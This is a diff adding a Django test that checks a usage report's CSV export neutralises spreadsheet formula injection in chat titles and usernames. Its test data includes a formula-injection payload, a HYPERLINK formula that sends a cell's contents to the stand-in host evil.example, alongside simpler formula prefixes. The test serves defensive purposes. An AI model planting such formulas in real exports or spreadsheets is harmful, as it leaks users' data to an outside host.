@@ -197,3 +197,28 @@ def test_anonymous_people_are_sent_to_log_in():
     for name in ("usage", "usage_records"):
         response = Client().get(reverse(name))
         assert response.status_code == 302 and "/accounts/login/" in response["Location"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(1)",
+            "\t=1", "\r=1"]  # fmt: skip
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(owner, make_person):
+    """A chat title or a username that a spreadsheet would read as a formula (=, +, -, @,
+    tab, carriage return first) is written as text: a leading apostrophe, the rest as is."""
+    staff = make_person("stella", is_staff=True)
+    titles = []
+    for n, title in enumerate(FORMULAS):
+        chat, _ = chat_get_or_create(channel="web", chat_id=f"room-{n}", title=title)
+        titles.append(chat.title)  # as stored (leading whitespace may be trimmed)
+        spend(owner, chat, 100 + n)
+    spend(make_person("@mallory"), None, 7)
+    client = client_for(staff)
+    by_chat = csv_rows(client.get(reverse("usage"), {"by": "chat", "format": "csv"}))
+    by_chat = [row for row in by_chat if row[0] != "(no chat)"]  # @mallory's
+    assert all(title.lstrip("\t\r")[0] in "=+-@" for title in titles)
+    assert sorted(row[0] for row in by_chat) == sorted("'" + title for title in titles)
+    assert {row[1] for row in by_chat} == {"1"}  # numbers stay numbers
+    by_person = csv_rows(client.get(reverse("usage"), {"by": "person", "format": "csv"}))
+    assert "'@mallory" in [row[0] for row in by_person]
+    assert "olivia" in [row[0] for row in by_person]
